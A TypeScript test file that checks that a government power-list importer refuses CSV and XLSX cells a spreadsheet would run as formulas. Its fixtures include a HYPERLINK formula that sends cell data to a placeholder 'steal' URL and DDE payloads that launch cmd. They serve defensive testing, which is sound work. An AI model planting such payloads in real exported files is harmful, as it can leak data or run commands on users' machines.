import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { graphql } from "./gql/index.js";
import { startTestHub, type TestHub } from "./support/hub.js";
import { COUNTY, factories } from "./support/factories.js";
import { buildHub, startNode, type Build } from "./support/processes.js";

/**
 * Cells a spreadsheet would run as formulas (CSV injection) are refused as row problems, from CSV
 * through the importPowers mutation and from XLSX through `npm run import`. A leading "-" or "+"
 * before Chinese text (a list bullet) or alone (a placeholder) is legal text and is kept.
 */
const ImportPowers = graphql(`
  mutation FormulaImportPowers($csv: String!, $partial: Boolean) {
    importPowers(csv: $csv, partial: $partial) { rows created failed rejected problems { row column reason } }
  }
`);
const Stored = graphql(`query FormulaStored($search: String) { powers(search: $search, first: 100) { totalCount nodes { code name post } } }`);
const CreateMatter = graphql(`mutation FormulaMatter($input: CreateMatterInput!) { createMatter(input: $input) { code } }`);
const CreateInstrument = graphql(`
  mutation FormulaInstrument($input: CreateLegalInstrumentInput!) { createLegalInstrument(input: $input) { id } }
`);

const HEADER = ["事项编码", "事项名称", "权力类型", "实施主体", "设定依据", "监管事项", "适用区域", "实施岗位"];
const row = (n: number, name: string, post = "执法一科") =>
  [`320322-FX-CF-${n}`, name, "行政处罚", "SCJGJ", "《中华人民共和国食品安全法》第36条", "FOOD.STREET_STALL", COUNTY, post];
const ROWS = [
  row(1, `=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")`),
  row(2, "@SUM(1+1)*cmd|' /C calc'!A0"),
  row(3, "+1+cmd|' /C calc'!A0"),
  row(4, "对占道经营食品摊贩的行政处罚", "-2+3+cmd|' /C calc'!A0"),
  row(5, "- 对夜市占道经营食品摊贩的行政处罚", "-"),
  row(6, "+ 对流动食品摊贩的行政处罚（夜市）", "+"),
];
/** The formula cells, as each report names them. */
const REFUSED = [
  [2, "事项名称"],
  [3, "事项名称"],
  [4, "事项名称"],
  [5, "实施岗位"],
];

const csvCell = (v: string) => `"${v.replaceAll('"', '""')}"`;
const CSV = [HEADER, ...ROWS].map((r) => r.map(csvCell).join(",")).join("\n");

/** A hub with the county, the market regulator, the food matters and the food safety law the rows cite. */
async function hubWithFoodPowersReferences(): Promise<TestHub> {
  const hub = await startTestHub();
  await factories(hub).county();
  await factories(hub).agency("SCJGJ");
  for (const code of ["FOOD", "FOOD.STREET_STALL"]) await hub.gql(CreateMatter, { input: { code, name: code } });
  await hub.gql(CreateInstrument, {
    input: { title: "中华人民共和国食品安全法", level: "LAW", issuer: "全国人大常委会", effectiveDate: "2021-04-29", articles: [{ number: "36", text: "食品摊贩……" }] },
  });
  return hub;
}

let t: TestHub;
beforeAll(async () => {
  t = await hubWithFoodPowersReferences();
});
afterAll(() => t?.stop());

describe("formula cells in a power list", () => {
  it("refuses each formula-like cell as a problem of its row and column, and writes nothing", async () => {
    const stored = async () => (await t.gql(Stored, { search: "320322-FX-" })).data!.powers.totalCount;
    const before = await stored();
    const { data, errors } = await t.gql(ImportPowers, { csv: CSV });
    expect(errors).toBeUndefined();
    expect(data!.importPowers).toMatchObject({ rows: 6, created: 0, failed: 4, rejected: true });
    expect(data!.importPowers.problems.map((p) => [p.row, p.column])).toEqual(REFUSED);
    expect(data!.importPowers.problems[0].reason).toBe("以“=”开头，表格软件会把它当作公式执行（公式注入）；请删去开头的“=”");
    expect(data!.importPowers.problems[3].reason).toBe("以“-”开头，表格软件会把它当作公式执行（公式注入）；请删去开头的“-”");
    expect(await stored()).toBe(before);
  });

  it("keeps a leading dash or plus before Chinese text, or alone, as written", async () => {
    const { data } = await t.gql(ImportPowers, { csv: CSV, partial: true });
    expect(data!.importPowers).toMatchObject({ created: 2, failed: 4, rejected: false });
    const stored = (await t.gql(Stored, { search: "320322-FX-" })).data!.powers.nodes;
    expect(stored.map((p) => [p.code, p.name, p.post]).sort()).toEqual([
      ["320322-FX-CF-5", "- 对夜市占道经营食品摊贩的行政处罚", "-"],
      ["320322-FX-CF-6", "+ 对流动食品摊贩的行政处罚（夜市）", "+"],
    ]);
  });

  it("refuses the same cells in an XLSX workbook imported from the command line", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("权力清单");
    for (const r of [HEADER, ...ROWS]) sheet.addRow(r.map((v, i) => (i === 0 ? v.replace("FX", "FY") : v)));
    const dir = mkdtempSync(join(tmpdir(), "hub-formula-"));
    const file = join(dir, "powers.xlsx");
    writeFileSync(file, Buffer.from(await workbook.xlsx.writeBuffer()));
    // Its own hub: the command needs the database to itself when it is the embedded one, so this
    // hub is stopped before the command runs, and the other tests keep theirs.
    const own = await hubWithFoodPowersReferences();
    const build: Build = await buildHub();
    try {
      await own.hub.stop();
      const env = { HUB_DATA_DIR: own.database.dataDir, DATABASE_URL: own.database.databaseUrl ?? "", LOG_LEVEL: "warn" };
      const cli = startNode(build.script("src/cli/import.js"), ["powers", file], env);
      expect(await cli.exited, cli.output()).toBe(1);
      for (const [n, column] of REFUSED) expect(cli.output()).toMatch(new RegExp(`第${n}行 ${column}：以“[=@+-]”开头，表格软件会把它当作公式执行`));
      expect(cli.output()).toContain("Nothing imported: 4 of 6 rows have problems");
    } finally {
      build.remove();
      rmSync(dir, { recursive: true, force: true });
      await own.database.drop();
    }
  }, 120_000);
});
